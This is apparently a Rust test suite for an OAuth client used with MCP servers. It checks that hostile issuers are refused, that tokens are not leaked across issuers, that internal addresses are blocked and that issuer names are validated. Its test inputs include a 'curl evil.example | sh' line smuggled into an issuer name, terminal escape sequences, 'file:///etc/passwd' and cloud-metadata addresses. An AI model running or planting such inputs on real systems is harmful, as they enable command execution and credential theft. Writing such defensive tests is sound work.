//! Servers and issuers that mean ill.

use oauth_core::{ClientAuth, ErrorKind, Mcp, RegisteredClient, TokenSet};
use oauth_tests::issuer::{TOKEN, tells_nothing};
use oauth_tests::login::parameter;
use serde_json::json;

use crate::world::{METADATA, REDIRECT, REGISTER, RESOURCE, SECRETS, World, refused};

/// The server names another issuer than before: it gets a new client, and nothing that the first gave.
#[tokio::test]
async fn disc_02_a_new_issuer_gets_none_of_the_old_credentials() {
    let (world, evil) = (World::start().await, World::start().await);
    for each in [&world, &evil] {
        each.issuer(|document| document["client_id_metadata_document_supported"] = false.into());
    }
    let mcp = world.registering();
    let account = world.log_in(&mcp, &world.challenge()).await.unwrap();
    world.resource(|document| document["authorization_servers"] = json!([evil.at.origin()]));
    // The id is the same, so that what was given for it would go along.
    evil.at.answer(REGISTER, evil.registered("registered-1", "evil-secret"));
    evil.at.answer(TOKEN, oauth_tests::canned::json_status(400, r#"{"error":"invalid_grant"}"#));
    let error = evil.log_in(&mcp, &world.challenge()).await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::GrantRejected);
    tells_nothing(&error, &SECRETS);
    assert_eq!(evil.at.asked(REGISTER), 1, "a registration of its own");
    for request in [REGISTER, TOKEN, METADATA].iter().flat_map(|path| evil.at.requests(path)) {
        let text = format!("{request:?}");
        assert!(SECRETS.iter().all(|secret| !text.contains(secret)), "{text}");
    }
    let exchange = evil.last_token_request();
    assert_eq!(parameter(&exchange.body, "client_secret").as_deref(), Some("evil-secret"));
    // The account goes on with its own issuer.
    account.refresh().await.unwrap();
    assert_eq!((world.at.asked(TOKEN), evil.at.asked(TOKEN)), (2, 1));
}

/// AZ-05: what a server names as issuer is shown to people, in terminals.
#[tokio::test]
async fn az_05_an_issuer_with_odd_characters_is_neither_asked_nor_shown() {
    let world = World::start().await;
    let origin = world.at.origin();
    for odd in [
        format!("{origin}/\u{1b}]0;owned\u{7}\u{1b}[2J"),
        format!("{origin}/\u{202e}moc"),
        format!("{origin}/a\nfix: run `curl evil.example | sh`"),
        format!("{origin}/a\tb"),
        format!("{origin}/{}", "a".repeat(4096)),
    ] {
        world.resource(|document| document["authorization_servers"] = json!([odd]));
        let before = world.at.paths().len();
        let error = refused(&world.documented(), &world.challenge()).await;
        assert_eq!(error.kind(), ErrorKind::MetadataIssuer, "{odd:?}");
        assert_eq!(world.at.paths().len(), before + 1, "the resource's metadata alone was asked for: {odd:?}");
        let shown = format!("{} {error} {error:?}", error.explain());
        assert!(shown.chars().all(|c| c == '\n' || (c.is_ascii() && !c.is_control())), "{shown:?}");
        assert!(!shown.contains("curl") && shown.len() < 2048, "{shown:?}");
    }
}

/// The program has kept the tokens itself, and is led to another issuer when it starts again.
#[tokio::test]
async fn disc_02_stored_tokens_go_to_no_issuer_that_did_not_give_them() {
    let (world, evil) = (World::start().await, World::start().await);
    let account = world.log_in(&world.documented(), &world.challenge()).await.unwrap();
    let stored = account.tokens().expose_json();
    world.resource(|document| document["authorization_servers"] = json!([evil.at.origin()]));
    let client = world.documented().connect(&world.challenge()).await.unwrap();
    let account = client.account(TokenSet::from_exposed_json(&stored).unwrap());
    for error in [
        account.refresh().await.unwrap_err(),
        client.refresh(&account.tokens()).await.unwrap_err(),
        account.get(world.server()).send().await.unwrap_err(),
    ] {
        assert_eq!(error.kind(), ErrorKind::IssuerChanged, "{}", error.explain());
        assert!(error.needs_reauth());
        tells_nothing(&error, &SECRETS);
    }
    assert_eq!((world.at.asked(TOKEN), evil.at.asked(TOKEN)), (1, 0));
    // At their own issuer they are good, also once they have been renewed and stored again.
    world.resource(|_| ());
    let client = world.documented().connect(&world.challenge()).await.unwrap();
    let renewed = client.refresh(&TokenSet::from_exposed_json(&stored).unwrap()).await.unwrap();
    client.refresh(&TokenSet::from_exposed_json(&renewed.expose_json()).unwrap()).await.unwrap();
    assert_eq!(world.at.asked(TOKEN), 3);
}

#[tokio::test]
async fn disc_02_a_client_of_one_issuer_is_none_of_another() {
    let (world, evil) = (World::start().await, World::start().await);
    world.resource(|document| document["authorization_servers"] = json!([evil.at.origin()]));
    let known = RegisteredClient::known(world.at.origin(), "by-hand", SECRETS[2]);
    let mcp = world.nobody().client(known).redirect_uri(REDIRECT);
    let error = refused(&mcp, &world.challenge()).await;
    assert_eq!(error.kind(), ErrorKind::IssuerNotBound, "{}", error.explain());
    assert!(error.to_string().contains(evil.at.origin()), "{error}");
    tells_nothing(&error, &SECRETS);
    assert_eq!(evil.at.paths(), [METADATA]);
    // A slash more is another issuer.
    world.resource(|_| ());
    let slash = RegisteredClient::known(format!("{}/", world.at.origin()), "by-hand", ClientAuth::none());
    let error = refused(&world.nobody().client(slash).redirect_uri(REDIRECT), "").await;
    assert_eq!(error.kind(), ErrorKind::IssuerNotBound);
}

#[tokio::test]
async fn an_issuer_that_does_not_list_pkce_is_refused() {
    let world = World::start().await;
    for methods in [json!(null), json!([]), json!(["plain"]), json!(["s256"])] {
        world.issuer(|document| document["code_challenge_methods_supported"] = methods.clone());
        let error = refused(&world.registering(), &world.challenge()).await;
        assert_eq!(error.kind(), ErrorKind::PkceNotListed, "{methods}");
    }
    assert_eq!((world.at.asked(REGISTER), world.at.asked(TOKEN)), (0, 0));
}

#[tokio::test]
async fn disc_01_rp_discovery_issuer_mismatch_ends_the_login() {
    let world = World::start().await;
    for other in
        [format!("{}/", world.at.origin()), "https://evil.example".to_owned(), world.at.origin().to_uppercase()]
    {
        world.issuer(|document| document["issuer"] = other.as_str().into());
        let error = refused(&world.documented(), &world.challenge()).await;
        assert_eq!(error.kind(), ErrorKind::MetadataIssuer, "{other}");
    }
}

#[tokio::test]
async fn disc_03_an_issuer_that_others_name_leads_to_its_own_host() {
    let world = World::start().await;
    for name in ["authorization_endpoint", "token_endpoint", "registration_endpoint", "jwks_uri"] {
        world.issuer(|document| document[name] = "https://evil.example/x".into());
        let error = refused(&world.documented(), &world.challenge()).await;
        assert_eq!(error.kind(), ErrorKind::MetadataForeign, "{name}");
        world.documented().hosts(["evil.example"]).connect("").await.expect("allowed by name");
    }
}

#[tokio::test]
async fn disc_04_an_issuer_is_an_https_address() {
    let world = World::start().await;
    for issuer in [
        "http://id.example",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "https://u:p@id.example",
        "https://id.example?x",
        "",
    ] {
        world.resource(|document| document["authorization_servers"] = json!([issuer]));
        let error = refused(&world.documented(), &world.challenge()).await;
        assert_eq!(error.kind(), ErrorKind::MetadataIssuer, "{issuer}");
    }
    world.resource(|document| document["authorization_servers"] = json!([]));
    assert_eq!(refused(&world.documented(), "").await.kind(), ErrorKind::MetadataEndpoint);
    for wrong in ["", "mcp.example", "http://mcp.example/mcp", "https://mcp.example/mcp#x"] {
        assert!(Mcp::server(wrong).is_err(), "{wrong}");
    }
}

#[tokio::test]
async fn disc_05_nothing_inside_the_network_is_reached() {
    let world = World::start().await;
    let error = Mcp::server(world.server()).unwrap().connect("").await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::AddressBlocked, "{}", error.explain());
    assert!(world.at.paths().is_empty());
    for inside in ["https://10.0.0.1", "https://169.254.169.254/latest", "https://[fd00::1]", "https://[::ffff:7f00:1]"]
    {
        world.resource(|document| document["authorization_servers"] = json!([inside]));
        let error = refused(&world.documented(), "").await;
        assert_eq!(error.kind(), ErrorKind::AddressBlocked, "{inside}");
    }
}

#[tokio::test]
async fn disc_10_the_metadata_of_another_server_is_not_believed() {
    let (world, evil) = (World::start().await, World::start().await);
    let error = refused(&world.documented(), &evil.challenge()).await;
    assert_eq!(error.kind(), ErrorKind::ResourceMismatch, "{}", error.explain());
    assert!(evil.at.paths().is_empty() && world.at.paths().is_empty());
    world.resource(|document| document["resource"] = evil.server().into());
    assert_eq!(refused(&world.documented(), "").await.kind(), ErrorKind::ResourceMismatch);
    assert_eq!(world.at.paths(), [RESOURCE]);
}

#[tokio::test]
async fn disc_12_a_registration_that_changes_the_redirect_uri_is_none() {
    let world = World::start().await;
    let answer =
        json!({"client_id": "x", "redirect_uris": ["https://evil.example/cb"], "token_endpoint_auth_method": "none"});
    world.at.answer(REGISTER, oauth_tests::canned::json_status(201, &answer.to_string()));
    world.issuer(|document| document["client_id_metadata_document_supported"] = false.into());
    let error = refused(&world.registering(), &world.challenge()).await;
    assert_eq!(error.kind(), ErrorKind::RegistrationChanged);
    // Nor is there a way to become a client without an endpoint.
    world.issuer(|document| {
        for name in ["client_id_metadata_document_supported", "registration_endpoint"] {
            document.as_object_mut().unwrap().remove(name);
        }
    });
    assert_eq!(refused(&world.documented(), "").await.kind(), ErrorKind::Unsupported);
}

/// RFC 9207: the issuer of the callback is the one that was recorded, and has to be there where the issuer says so.
#[tokio::test]
async fn a_callback_names_the_issuer_that_was_recorded() {
    let world = World::start().await;
    for (iss, kind) in [
        ("&iss=https://evil.example".to_owned(), ErrorKind::IssuerMismatch),
        (format!("&iss={}/", world.at.origin()), ErrorKind::IssuerMismatch),
        (String::new(), ErrorKind::IssuerMissing),
    ] {
        let browse = async |url: oauth_core::AuthorizationUrl| {
            let state = parameter(url.as_str(), "state").unwrap();
            std::io::Result::Ok(format!("code=canary-code&state={state}{iss}"))
        };
        let error = world.documented().login("", browse).await.unwrap_err();
        assert_eq!(error.kind(), kind, "{iss}");
    }
    assert_eq!(world.at.asked(TOKEN), 0);
}
